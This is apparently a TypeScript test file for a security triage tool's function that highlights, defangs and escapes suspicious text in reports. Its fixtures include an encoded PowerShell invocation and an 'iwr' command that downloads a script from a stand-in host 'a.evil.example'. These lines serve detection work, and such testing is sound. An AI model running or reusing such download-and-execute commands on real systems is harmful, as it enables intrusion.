import fc from 'fast-check';
import type { Mark } from '../../../lib/report/triage/page/marked-text';
import { markedText } from '../../../lib/report/triage/page/marked-text';
import { escapeControls } from '../../../lib/text';
import { defang } from '../../../lib/triage';
import { shownText } from '../page/page-syntax';

function mark(text: string, part: string, number: number, id: string, weight: Mark['weight'] = 'high'): Mark {
  const start = text.indexOf(part);
  return { span: { start, end: start + part.length }, number, id, weight };
}

/** What is marked, and as what. */
function marked(text: string, marks: readonly Mark[], most = Infinity): readonly string[] {
  const { source } = markedText(text, marks, most);
  return [...source.matchAll(/<mark class="(\w+)" title="([^"]*)"(?: data-number="([^"]*)")?>(.*?)<\/mark>/gs)].map(
    ([, weight = '', ids = '', numbers = '', content = '']) => `${weight} ${ids} [${numbers}] ${shownText(content)}`,
  );
}

test('marks exactly the span, and gives it the number of its judgement', () => {
  const text = 'cmd /c powershell -enc AAAA';
  expect(marked(text, [mark(text, '-enc', 2, 'encoded')])).toEqual(['high encoded [2] -enc']);
  expect(shownText(markedText(text, [mark(text, '-enc', 2, 'encoded')], Infinity).source)).toBe(text);
});

test('cuts overlapping spans into pieces that say all that is found there', () => {
  const text = 'abcdefgh';
  const marks = [
    mark(text, 'abcde', 1, 'one', 'medium'),
    mark(text, 'def', 2, 'two'),
    mark(text, 'gh', 3, 'three', 'low'),
  ];
  expect(marked(text, marks)).toEqual([
    'medium one [] abc',
    'high one, two [1] de',
    'high two [2] f',
    'low three [3] gh',
  ]);
});

test('marks a span of an address, which is spelled longer than it was recorded', () => {
  const text = 'iwr http://a.evil.example/x.ps1 -o y.ps1';
  expect(marked(text, [mark(text, 'a.evil.example', 1, 'address'), mark(text, 'y.ps1', 2, 'other')])).toEqual([
    'high address [1] a[.]evil[.]example',
    'high other [2] y.ps1',
  ]);
});

test('does not number what is true of all code, and leaves out spans that are not in the text', () => {
  const text = 'a.exe';
  expect(marked(text, [mark(text, 'a.exe', 4, 'runs-code', 'base')])).toEqual(['base runs-code [] a.exe']);
  expect(marked(text, [{ span: { start: 3, end: 9 }, number: 1, id: 'x', weight: 'high' }])).toEqual([]);
});

test('tells control characters from the letters that spell them, and keeps line ends', () => {
  expect(markedText('a\tb\\tc\r\nd\u202e', [], Infinity).source).toBe(
    'a<span class="control">\\t</span>b\\tc\nd<span class="control">\\u{202e}</span>',
  );
});

test('shows the beginning of a long text and what is around evidence beyond it, and counts the rest', () => {
  const text = `${'a'.repeat(1000)}EVIL${'b'.repeat(1000)}`;
  const shown = shownText(markedText(text, [mark(text, 'EVIL', 1, 'x')], 400).source);
  expect(shown).toBe(
    `${'a'.repeat(400)}[560 characters left out: --full shows them]${'a'.repeat(40)}EVIL${'b'.repeat(40)}[and 960 more characters: --full shows them]`.replace(
      '960 more characters',
      '960 characters more',
    ),
  );
  expect(marked(text, [mark(text, 'EVIL', 1, 'x')], 400)).toEqual(['high x [1] EVIL']);
});

test('cuts no character in two', () => {
  const text = `${'a'.repeat(399)}\u{1f600}${'b'.repeat(400)}`;
  expect(shownText(markedText(text, [], 400).source).startsWith(`${'a'.repeat(399)}\u{1f600}[and 400 `)).toBe(true);
});

test('shows every text whole, in its order, whatever is marked in it', () => {
  const value = fc.array(
    fc.constantFrom('a', '<', '&', '"', '\n', '\u202e', 'http://a.b.example/c ', '.', '[.]', '\\\\srv.example\\x '),
    {
      maxLength: 30,
    },
  );
  fc.assert(
    fc.property(value, fc.array(fc.tuple(fc.nat(60), fc.nat(20)), { maxLength: 12 }), (parts, spans) => {
      const text = parts.join('');
      const marks = spans.map(([start, length], index): Mark => ({
        span: { start, end: start + length },
        number: index,
        id: `id-${String(index % 4)}`,
        weight: 'high',
      }));
      const { source } = markedText(text, marks, Infinity);
      expect(shownText(source)).toBe(defang(text).split('\n').map(escapeControls).join('\n'));
      const covered = Array.from({ length: text.length }, (_, at) =>
        marks.some(({ span }) => span.start <= at && at < span.end && span.end <= text.length),
      );
      expect(source.includes('<mark')).toBe(covered.includes(true));
    }),
  );
});

test('takes time in proportion to the number of marks, also where all overlap', () => {
  const text = 'a'.repeat(40_000);
  const marks = Array.from({ length: 20_000 }, (_, index): Mark => ({
    span: { start: index, end: text.length - index },
    number: 1,
    id: `id-${String(index % 20)}`,
    weight: 'high',
  }));
  expect(markedText(text, marks, Infinity).source.length).toBeLessThan(20_000 * 2 * 300);
});
